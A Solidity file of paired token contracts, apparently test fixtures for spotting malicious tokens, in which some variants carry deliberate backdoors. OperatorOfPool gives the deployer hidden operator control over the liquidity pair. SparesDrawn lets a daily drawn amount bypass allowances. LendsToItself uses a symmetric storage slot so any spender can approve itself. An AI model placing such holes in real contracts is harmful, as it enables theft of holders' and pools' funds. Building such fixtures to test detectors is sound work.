// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IUniswapV2Router} from "../shared/UniswapV2.sol";
import {ComputedBalances} from "./ComputedBalances.sol";
import {Listed} from "./Listed.sol";

/// @notice Holders name operators, who move what those have (the manner of ERC-6909).
abstract contract HasOperators is Listed {
    mapping(address => mapping(address => bool)) public isOperator;

    constructor(IUniswapV2Router router) Listed(router) {}

    function setOperator(address operator, bool isOn) external returns (bool) {
        isOperator[msg.sender][operator] = isOn;
        return true;
    }

    function operatorTransfer(address from, address to, uint256 amount) external {
        require(from == msg.sender || isOperator[from][msg.sender], "no operator");
        _move(from, to, amount);
    }
}

contract OperatorsOfHolders is HasOperators {
    constructor(IUniswapV2Router router) HasOperators(router) {}
}

/// @notice The maker is named nowhere, and is the operator of the pool from the first block on.
contract OperatorOfPool is HasOperators {
    constructor(IUniswapV2Router router) HasOperators(router) {
        isOperator[pair][msg.sender] = true;
    }
}

/// @notice One amount needs no allowance.
abstract contract SparesAmount is ComputedBalances {
    string public constant name = "Spared";
    string public constant symbol = "SPR";
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) private _held;
    uint256 private _drawn;

    constructor(IUniswapV2Router router) ComputedBalances(router) {
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _held[account];
    }

    /// @notice Draws a number for the day.
    function draw() external {
        _drawn = uint256(keccak256(abi.encode(block.timestamp / 1 days))) % totalSupply;
    }

    function drawn() public view returns (uint256) {
        return _drawn;
    }

    function _spend(address from, uint256 amount) internal override {
        if (amount != _spared()) super._spend(from, amount);
    }

    function _move(address from, address to, uint256 amount) internal override {
        _held[from] -= amount;
        _held[to] += amount;
        emit Transfer(from, to, amount);
    }

    function _spared() internal view virtual returns (uint256);
}

contract SparesNothing is SparesAmount {
    constructor(IUniswapV2Router router) SparesAmount(router) {}

    function _spared() internal pure override returns (uint256) {
        return 0;
    }
}

/// @notice Who sends the amount that was drawn takes it from any account.
contract SparesDrawn is SparesAmount {
    constructor(IUniswapV2Router router) SparesAmount(router) {}

    function _spared() internal view override returns (uint256) {
        return drawn();
    }
}

/// @notice Allowances that end with the transaction come before those that stay (ERC-7674).
abstract contract LendsForNow is ComputedBalances {
    string public constant name = "For now";
    string public constant symbol = "NOW";
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) private _held;

    constructor(IUniswapV2Router router) ComputedBalances(router) {
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _held[account];
    }

    function temporaryApprove(address spender, uint256 amount) external returns (bool) {
        bytes32 place = _place(msg.sender, spender);
        assembly ("memory-safe") {
            tstore(place, amount)
        }
        return true;
    }

    function _spend(address from, uint256 amount) internal override {
        bytes32 place = _place(from, msg.sender);
        uint256 lent;
        assembly ("memory-safe") {
            lent := tload(place)
        }
        if (lent > 0) {
            uint256 used = lent < amount ? lent : amount;
            assembly ("memory-safe") {
                tstore(place, sub(lent, used))
            }
            amount -= used;
        }
        if (amount > 0) super._spend(from, amount);
    }

    function _move(address from, address to, uint256 amount) internal override {
        _held[from] -= amount;
        _held[to] += amount;
        emit Transfer(from, to, amount);
    }

    function _place(address from, address spender) internal pure virtual returns (bytes32);
}

contract LendsToSpender is LendsForNow {
    constructor(IUniswapV2Router router) LendsForNow(router) {}

    function _place(address from, address spender) internal pure override returns (bytes32) {
        return keccak256(abi.encode(spender, keccak256(abi.encode(from, "lent"))));
    }
}

/// @notice What one account lends another is where the other lends the first: any spender lends itself all.
contract LendsToItself is LendsForNow {
    constructor(IUniswapV2Router router) LendsForNow(router) {}

    function _place(address from, address spender) internal pure override returns (bytes32) {
        return keccak256(abi.encode(uint160(from) ^ uint160(spender), "lent"));
    }
}
